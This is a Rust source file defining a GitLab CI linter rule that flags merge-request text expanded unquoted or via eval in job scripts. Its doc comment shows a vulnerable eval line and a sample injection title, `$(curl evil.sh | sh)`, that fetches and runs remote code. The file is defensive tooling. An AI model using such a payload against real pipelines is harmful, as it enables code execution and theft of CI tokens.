//! ## What it does
//! Reports GitLab scripts that expand variables whose text a merge-request author
//! writes — `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
//! `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`, source branch names, … — unquoted
//! or through `eval`/`sh -c`.
//!
//! ## Why is this bad
//! Unquoted, the text is split and globbed; through `eval` it is run. A title such
//! as `$(curl evil.sh | sh)` executes with the job's variables and tokens.
//!
//! ## Example
//! ```yaml
//! script:
//!   - eval "echo $CI_MERGE_REQUEST_TITLE"
//! ```
//!
//! ## Use instead
//! ```yaml
//! script:
//!   - printf '%s\n' "$CI_MERGE_REQUEST_TITLE"
//! ```

use pipec_diagnostics::Severity;

use crate::facts::script;
use crate::rule::{Context, Findings, Group, Input, Rule};

pub static RULE: Rule = Rule {
    id: "PIPE302",
    name: "untrusted-variable-in-shell",
    summary: "merge-request text never becomes shell code",
    severity: Severity::Error,
    group: Group::Security,
    inputs: &[Input::GitLab],
    module: module_path!(),
    check: Some(check),
};

fn check(cx: &Context, out: &mut Findings) {
    for p in cx.pipelines() {
        for j in &p.jobs {
            for s in &j.scripts {
                for c in script::commands(&s.text) {
                    for var in script::unsafe_expansions(&c.text) {
                        out.report(
                            s.loc.text(&format!("${var}")),
                            format!("`${var}` is expanded as shell code in `{}`", j.name),
                        )
                        .label("unquoted or evaluated")
                        .help(format!(
                            "quote it (\"${var}\") and never pass it to eval or sh -c"
                        ));
                    }
                }
            }
        }
    }
}
